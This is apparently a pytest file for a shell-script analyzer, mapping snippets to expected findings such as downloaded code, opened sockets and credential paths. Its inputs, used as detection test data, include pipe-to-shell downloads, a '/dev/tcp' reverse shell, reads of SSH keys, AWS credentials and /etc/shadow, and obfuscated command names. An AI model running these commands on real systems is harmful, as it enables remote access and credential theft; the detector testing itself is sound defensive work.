"""Tables of sources and all that is found in them."""

import pytest

from sandboxd.analysis import shell
from sandboxd.analysis.commandline import Code
from sandboxd.analysis.report import Report

CURL = {"command curl", "socket.open curl"}
FOUND: dict[str, set[str]] = {
    # commands, wherever they stand
    "ls -l": {"command ls"},
    "/usr/bin/ls": {"command /usr/bin/ls"},
    "a; b && c || d & e | f": {f"command {name}" for name in "abcdef"},
    "if a; then b; elif c; then d; else e; fi": {f"command {name}" for name in "abcde"},
    "f() { a; }; for i in 1; do b; done; while c; do d; done; (e); { g; }": {f"command {name}" for name in "abcdeg"},
    "case x in x) a;; *) b;; esac": {"command a", "command b"},
    "x=$(a)": {"command a"},
    "x=`a`": {"command a"},
    'echo "x $(a "$(b)")"': {"command echo", "command a", "command b"},
    "echo ${x:-$(a)}": {"command echo", "command a"},
    "diff <(a) <(b)": {"command diff", "command a", "command b"},
    "cat <<EOF\n$(a)\nEOF": {"command cat", "command a"},
    "cat <<'EOF'\n$(a)\nEOF": {"command cat"},
    # names that are written otherwise
    '"c"u\'r\'l x': CURL,
    "c\\url x": CURL,
    "$'\\x63url' x": CURL,
    "$x y": {"call.dynamic command"},
    '"$(a)" b': {"call.dynamic command", "command a"},
    "${x}url": {"call.dynamic command"},
    # variables for one command
    "A=1 curl x": {*CURL, "command.env A"},
    "LD_PRELOAD=./a.so B=$(b) c": {"command.env LD_PRELOAD", "command.env B", "command b", "command c"},
    "A=1": set(),
    "export A=1": set(),
    # commands that run others
    "sudo -u root env A=b timeout 5 curl x": {*CURL, "command sudo", "command env", "command timeout"},
    "nohup nice -n 10 a &": {"command nohup", "command nice", "command a"},
    "ls | xargs -n 1 rm": {"command ls", "command xargs", "command rm"},
    "find . -name x -exec rm {} ;": {"command find", "command rm"},
    "find . -exec a {} \\; -exec b {} +": {"command find", "command a", "command b"},
    "sudo --user root env --unset A timeout --signal KILL 5 a": {
        "command sudo", "command env", "command timeout", "command a",
    },
    "flock /tmp/lock a; chroot /x b; coproc c; watch -n 1 d": {
        *(f"command {name}" for name in ("flock", "chroot", "coproc", "watch", "a", "b", "c", "d")),
    },
    "export LD_PRELOAD=./a.so A=1": {"command.env LD_PRELOAD"},
    "declare -x PYTHONPATH=a": {"command.env PYTHONPATH"},
    "declare LD_PRELOAD=a": set(),
    # text becomes code
    'eval "$x"': {"command eval", "eval.string eval"},
    'eval "$(echo x | base64 -d)"': {
        "command eval", "command echo", "command base64", "eval.string eval", "eval.decoded base64",
    },
    "curl x | sh": {*CURL, "command sh", "eval.string sh", "eval.downloaded curl"},
    "wget -qO- x | sudo bash -s": {
        "command wget", "socket.open wget", "command sudo", "command bash", "eval.string bash", "eval.downloaded wget",
    },
    "curl x | tee y | python3 -": {
        *CURL, "command tee", "command python3", "eval.string python3", "eval.downloaded curl",
    },
    "echo x | base64 -d | sh": {
        "command echo", "command base64", "command sh", "eval.string sh", "eval.decoded base64",
    },
    'bash -c "$(curl x)"': {*CURL, "command bash", "eval.string bash", "eval.downloaded curl"},
    "bash <(curl x)": {*CURL, "command bash", "eval.string bash", "eval.downloaded curl"},
    "sudo sh -c 'a'": {"command sudo", "command sh", "eval.string sh"},
    "source <(curl x)": {*CURL, "import ", "eval.downloaded curl"},
    ". ./functions.sh": {"import ./functions.sh"},
    "bash file.sh": {"command bash"},
    "bash <<EOF\na\nEOF": {"command bash", "eval.string bash"},
    "cat <<EOF | bash\na\nEOF": {"command cat", "command bash", "eval.string bash"},
    "bash <<< 'a'": {"command bash", "eval.string bash"},
    "sh | a": {"command sh", "command a"},
    "bash -lc a": {"command bash", "eval.string bash"},
    "bash < file": {"command bash", "eval.string bash"},
    "sh < <(curl x)": {*CURL, "command sh", "eval.string sh", "eval.downloaded curl"},
    "ls | xargs bash -c": {"command ls", "command xargs", "command bash", "eval.string bash"},
    "curl x | perl": {*CURL, "command perl", "eval.string perl", "eval.downloaded curl"},
    "perl -e a; ruby -e a; php -r a": {
        *(f"{code} {name}" for code in ("command", "eval.string") for name in ("perl", "ruby", "php")),
    },
    # data for a program that stands elsewhere
    "curl x | python3 -m json.tool": {*CURL, "command python3"},
    "curl x | python3 a.py": {*CURL, "command python3"},
    "curl x | perl a.pl": {*CURL, "command perl"},
    "bash a.sh <<< a": {"command bash"},
    "python3 a.py <<EOF\na\nEOF": {"command python3"},
    # the rest
    "echo x > /dev/tcp/192.0.2.1/80": {"command echo", "socket.open /dev/tcp"},
    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1": {"command bash", "socket.open /dev/tcp"},
    "ssh host": {"command ssh", "socket.open ssh"},
    "cat ~/.ssh/id_rsa": {"command cat", "credential.path .ssh", "credential.path id_rsa"},
    'cat "$HOME/.aws/credentials"': {"command cat", "credential.path .aws/"},
    "cat ~/.s'sh'/x": {"command cat", "credential.path .ssh"},
    "cat /etc/\\shadow": {"command cat", "credential.path /etc/shadow"},
    "cat < /etc/shadow": {"command cat", "credential.path /etc/shadow"},
    "": set(),
    "# curl x | sh": set(),
    # what cannot be read
    "if [": {"analysis.failed syntax"},
    "a; if [": {"command a", "analysis.failed syntax"},
}  # fmt: skip


def read(source: str) -> Report:
    report = Report()
    shell.read(source.encode(), report)
    return report


@pytest.mark.parametrize("source", FOUND)
def test_all_that_is_found(source: str) -> None:
    assert {f"{code} {detail}" for code, detail in read(source).found} == FOUND[source]


def test_a_finding_has_the_line_of_its_first_place() -> None:
    lines = {detail: line for (_, detail), line in read("\na\n\nb; a").found.items()}
    assert lines == {"a": 2, "b": 4}


def test_whether_all_was_understood_is_told() -> None:
    assert shell.read(b"a", Report())
    assert not shell.read(b"a (", Report())


@pytest.mark.parametrize(
    ("source", "embedded"),
    [
        ("bash -c 'ls'", Code("shell", "ls")),
        ('sudo sh -c "ls"', Code("shell", "ls")),
        ("python3 -c 'import os'", Code("python", "import os")),
        ("node -e 'eval(1)'", Code("javascript", "eval(1)")),
        ("eval 'a b' c", Code("shell", "a b c")),
        ("trap 'a' EXIT", Code("shell", "a")),
        ("bash <<EOF\na\nEOF\n", Code("shell", "a\n")),
        ("cat <<EOF | python3\nimport os\nEOF\n", Code("python", "import os\n")),
        ("bash <<< 'a b'", Code("shell", "a b")),
        ("find . -exec sh -c 'a' ;", Code("shell", "a")),
        ("env -S 'a b'", Code("shell", "a b")),
        ("su root -c 'a b'", Code("shell", "a b")),
        ("alias l='a | b'", Code("shell", "a | b")),
        ("flock /tmp/lock -c 'a b'", Code("shell", "a b")),
        ('bash -c "$x"', None),
        ("perl -e 'a'", None),
        ('eval "$x"', None),
        ("cat <<EOF\na\nEOF\n", None),
    ],
)
def test_source_in_the_source_is_handed_on(source: str, embedded: Code | None) -> None:
    assert [code for code, _ in read(source).embedded] == ([] if embedded is None else [embedded])


def test_bytes_that_are_no_characters_are_survived() -> None:
    assert shell.read(b"\xff\xfe a", Report()) in (True, False)
